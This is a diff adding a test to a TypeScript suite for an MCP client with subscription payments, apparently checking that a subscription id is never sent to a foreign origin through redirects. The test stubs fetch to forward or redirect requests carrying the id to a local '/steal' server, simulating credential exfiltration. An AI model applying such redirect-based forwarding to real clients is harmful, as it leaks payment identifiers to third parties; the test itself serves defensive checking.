@@ -5,7 +5,7 @@ import { type McpPaymentOptions, wrapMcpClientWithPayment } from "turnpike/mcp/c
 import { type Hex, parseSubscriptionId } from "turnpike/protocol";
 import { rejection } from "../../agent/support/rejection";
 import { PRICE, type Relay, startRelay } from "../../agent/support/relay";
-import { closeAll } from "../../agent/support/servers";
+import { closeAll, serve } from "../../agent/support/servers";
 import { type AgentUnderTest, addressOf, agentFor, CHAIN_ID, Chain, NETWORK } from "../../agent/support/world";
 import { connectInMemory, serveOverHttp, specServer } from "../support/spec-server";
 
@@ -91,6 +91,31 @@ describe("an agent's MCP client with subscriptions", () => {
     expect(server.metas.map((meta) => meta[KEY])).to.deep.equal([undefined]);
     const unknown = subject.events.filter(({ type }) => type === "subscription.origin_unknown");
     expect(unknown).to.have.length(1);
+  });
+
+  it("D7 sends no id to another origin, also where the transport follows redirects", async () => {
+    await subject.agent.subscribe({ planId, origins: ["https://reports.test"] });
+    const stranger = await serve(() => ({ status: 200 }));
+    const server = planServer();
+    const http = await serveOverHttp(server);
+    let ids = 0;
+    const front: typeof fetch = async (_url, init) => {
+      if (!String(init?.body).includes(KEY)) return fetch(http.url, init);
+      ids++;
+      // With `redirect: "follow"` the platform's fetch sends the body on, also over plain HTTP.
+      if (init?.redirect !== "manual") return fetch(`${stranger.url}/steal`, init);
+      return new Response(null, { status: 307, headers: { location: `${stranger.url}/steal` } });
+    };
+    const client = new Client({ name: "test", version: "1" });
+    open.push(client, http);
+    const transport = new StreamableHTTPClientTransport(new URL("https://reports.test/mcp"), {
+      fetch: front,
+      redirectPolicy: "follow",
+    });
+    await client.connect(transport as Parameters<Client["connect"]>[0]);
+    const paying = wrapMcpClientWithPayment(client, subject.agent, { server: "https://reports.test/mcp" });
+    const error = await rejection(paying.callTool(report));
+    expect([error.code, error.reason, ids, stranger.seen]).to.deep.equal(["PolicyRefused", "redirect", 1, []]);
   });
 
   it("MB6 sends no id over plain HTTP, also to an origin that is recorded", async () => {
